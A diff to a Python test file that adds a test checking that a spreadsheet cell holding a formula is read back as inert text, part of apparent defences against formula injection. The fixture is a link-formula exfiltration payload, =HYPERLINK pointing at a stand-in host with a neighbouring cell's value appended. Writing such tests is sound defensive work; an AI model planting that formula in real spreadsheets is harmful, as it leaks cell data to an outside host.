@@ -121,6 +121,15 @@ def test_what_was_handed_in_cannot_become_a_formula(source: Path, sign: str) -> 
     assert f"{sign}4" in [cell.value for row in book["minegraph report"] for cell in row]
 
 
+def test_formulas_come_back_as_text(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    book = openpyxl.Workbook()
+    book.active["A1"], book.active["A2"] = "name", '=HYPERLINK("http://192.0.2.1/?"&A1)'
+    book.save(path)
+    cell = marked([], path)["Sheet"]["A2"]
+    assert (cell.data_type, cell.value) == ("s", '=HYPERLINK("http://192.0.2.1/?"&A1)')
+
+
 def test_rows_of_separated_values_come_back_marked(tmp_path: Path) -> None:
     path = tmp_path / "partners.csv"
     path.write_text("name,role\nLapland,boss\n=1+1,partner\n", encoding="utf-8")
